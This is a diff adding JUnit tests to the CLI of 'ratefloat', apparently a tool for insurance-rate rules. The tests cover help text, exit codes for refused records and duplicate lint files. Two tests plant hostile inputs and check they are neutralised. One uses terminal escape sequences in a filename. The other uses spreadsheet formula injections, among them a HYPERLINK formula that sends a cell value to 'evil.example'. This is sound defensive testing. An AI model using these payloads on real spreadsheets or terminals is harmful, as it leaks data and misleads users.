@@ -1,6 +1,7 @@
 package org.ratefloat.cli;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.io.PrintWriter;
@@ -178,7 +179,10 @@ class CliTest {
         "not json"));
     Run r = run("simulate", "--rules", HUNAN, "--compare", "rules/cn-zj-hangzhou.json", "--in", portfolio.toString(),
         "--base-year", "2023");
-    assertEquals(0, r.code(), r.err());
+    // the unreadable third line is a refused record: exit 7, or 0 with --allow-errors
+    assertEquals(7, r.code(), r.err());
+    assertEquals(0, run("simulate", "--rules", HUNAN, "--compare", "rules/cn-zj-hangzhou.json", "--in",
+        portfolio.toString(), "--base-year", "2023", "--allow-errors").code());
     assertTrue(r.out().contains("\"format\": \"ratefloat/simulation@1\""), r.out());
     // machinery: 19,800,000.00 x 1.35 % = 267,300; retailer: 6,200,000.00 x 0.4 % = 24,800 (arrears veto);
     // exact: payroll (2 decimals) x rate (4 decimals) / 100 keeps 8 decimals
@@ -226,5 +230,110 @@ class CliTest {
     assertEquals(2, run().code());
     assertEquals(3, run("decide", "--rules", HUNAN, tmp.resolve("missing.json").toString()).code());
     assertEquals(4, run("decide", "--rules", tmp.resolve("missing.json").toString(), CASE).code());
+  }
+
+  @Test
+  void helpAndUsageLinesNameTheCommand() {
+    Run help = run("help");
+    assertEquals(0, help.code(), help.err());
+    assertTrue(help.out().startsWith("Usage: ratefloat [-hV] [COMMAND]"), help.out());
+    assertTrue(help.out().contains("7   some records were refused"), help.out());
+    Run report = run("help", "report");
+    assertEquals(0, report.code(), report.err());
+    assertTrue(report.out().startsWith("Usage: ratefloat report "), report.out());
+    assertTrue(run("report", "--help").out().startsWith("Usage: ratefloat report "));
+    // a usage error names the command whose help to read, in one line
+    Run bad = run("report", "--out", tmp.resolve("r.html").toString());
+    assertEquals(2, bad.code());
+    assertEquals("ratefloat: CL002 --simulation: give --simulation, --ranking or both (see ratefloat report --help)\n",
+        bad.err());
+  }
+
+  @Test
+  void aFileNamedTwiceIsLintedOnce() throws Exception {
+    Run twice = run("lint", HUNAN, HUNAN, "./" + HUNAN, "rules/../" + HUNAN);
+    assertEquals(0, twice.code(), twice.out());
+    assertFalse(twice.out().contains("RT027"), twice.out());
+    assertTrue(twice.out().contains("1 file(s): 0 error(s)"), twice.out());
+    // a copy is another file: two versions whose periods overlap
+    Path copy = tmp.resolve("cn-hn-provisional.json");
+    Files.copy(Path.of(HUNAN), copy);
+    for (String base : List.of("cn-national-2015.json", "cn-annex-2015.json")) {
+      Files.copy(Path.of("rules", base), tmp.resolve(base));
+    }
+    Run copies = run("lint", HUNAN, copy.toString());
+    assertEquals(4, copies.code(), copies.out());
+    assertTrue(copies.out().contains("RT027 error /effectiveFrom"), copies.out());
+  }
+
+  @Test
+  void lintPrintsFindingsOnOneLineEach() throws Exception {
+    // an indicator name with a line break and escape sequences, echoed by the finding about it
+    Path hostile = tmp.resolve("hostile\n\u001b[2J.json");
+    Files.writeString(hostile, Files.readString(Path.of(HUNAN)).replaceFirst("\"hitPolicy\": \"UNIQUE\"",
+        "\"hitPolicy\": \"U\\n\\u001b]0;owned\\u0007\""));
+    Run r = run("lint", hostile.toString());
+    assertEquals(4, r.code(), r.out());
+    assertEquals(2, r.out().lines().count(), r.out());
+    assertTrue(r.out().contains("hostile\\n\\u001b[2J.json: RT009 error /steps/1/hitPolicy"), r.out());
+    assertFalse(r.out().chars().anyMatch(c -> c < 0x20 && c != '\n'), r.out());
+  }
+
+  @Test
+  void aRunWithSomeRefusedRecordsExits7AndSaysHowMany() throws Exception {
+    Path portfolio = tmp.resolve("portfolio.ndjson");
+    Files.writeString(portfolio, Files.readString(Path.of(CASE)).replace("\n", "") + "\nnot json\n");
+    Path out = tmp.resolve("decisions.ndjson");
+    Run batch = run("batch", "--rules", HUNAN, "--in", portfolio.toString(), "--out", out.toString());
+    assertEquals(7, batch.code(), batch.err());
+    assertTrue(batch.err().contains(": 2 records in "), batch.err());
+    assertTrue(batch.err().contains("1 decided, 1 refused"), batch.err());
+    assertTrue(batch.err().contains("refused IN001"), batch.err());
+    assertEquals(2, Files.readAllLines(out).size(), "one output record per input record");
+    Run allowed = run("batch", "--rules", HUNAN, "--in", portfolio.toString(), "--out", out.toString(),
+        "--allow-errors");
+    assertEquals(0, allowed.code(), allowed.err());
+
+    Path monthly = tmp.resolve("monthly.ndjson");
+    Files.writeString(monthly, Files.readString(Path.of("examples/hunan-monthly-portfolio.ndjson")) + "{}\n");
+    Run rank = run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in", monthly.toString(),
+        "--month", "2025-03");
+    assertEquals(7, rank.code(), rank.err());
+    assertTrue(rank.err().contains("2025-03: 17 eligible, 0 without that month, top 100, 1 refused"), rank.err());
+    assertEquals(0, run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in",
+        monthly.toString(), "--month", "2025-03", "--allow-errors").code());
+  }
+
+  @Test
+  void csvOutputCannotRunInASpreadsheet() throws Exception {
+    // batch: an employer id that a spreadsheet would run, and a refused record whose message echoes one
+    String machinery = Files.readString(Path.of(CASE)).replace("\n", "");
+    Path portfolio = tmp.resolve("formulas.ndjson");
+    Files.writeString(portfolio, machinery.replace("\"HN-430100-000123\"",
+        "\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"open\\\")\"") + "\n"
+        + machinery.replace("\"HN-430100-000123\"", "\"@SUM(1+1)\"").replace("\"code\": \"3511\"",
+            "\"code\": \"-2+3\"") + "\n");
+    Path out = tmp.resolve("formulas.csv");
+    Run batch = run("batch", "--rules", HUNAN, "--in", portfolio.toString(), "--out", out.toString());
+    assertEquals(7, batch.code(), batch.err());
+    List<String> rows = Files.readAllLines(out);
+    assertTrue(rows.get(1).startsWith("1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",ok,"),
+        rows.get(1));
+    assertTrue(rows.get(2).startsWith("2,\"'@SUM(1+1)\",error,"), rows.get(2));
+    // numbers stay numbers: the rate, the premium
+    assertTrue(rows.get(1).contains(",1.3500,267300.00,"), rows.get(1));
+
+    // rank: employer ids from a CSV portfolio, and an indicator of value -1 would stay a number
+    Path csv = tmp.resolve("monthly.csv");
+    Files.writeString(csv, String.join("\n", "id,edition,code,asOf,from,to,averageHeadcount,injuries",
+        "+1 (cmd),GB/T 4754-2011,0610,2025-04-01,2025-03-01,2025-03-31,100,4",
+        "\"-2+3,\tx\",GB/T 4754-2011,0610,2025-04-01,2025-03-01,2025-03-31,50,4", ""));
+    Path ranked = tmp.resolve("rank.csv");
+    Run rank = run("rank", "--definition", "rules/cn-hn-key-industries.ranking.json", "--in", csv.toString(),
+        "--month", "2025-03", "--out", ranked.toString());
+    assertEquals(0, rank.code(), rank.err());
+    List<String> top = Files.readAllLines(ranked);
+    assertEquals("1,\"'-2+3,\tx\",8,4,1,80.000,1,2.0000", top.get(1));
+    assertEquals("2,\"'+1 (cmd)\",8,4,1,40.000,2,3.0000", top.get(2));
   }
 }
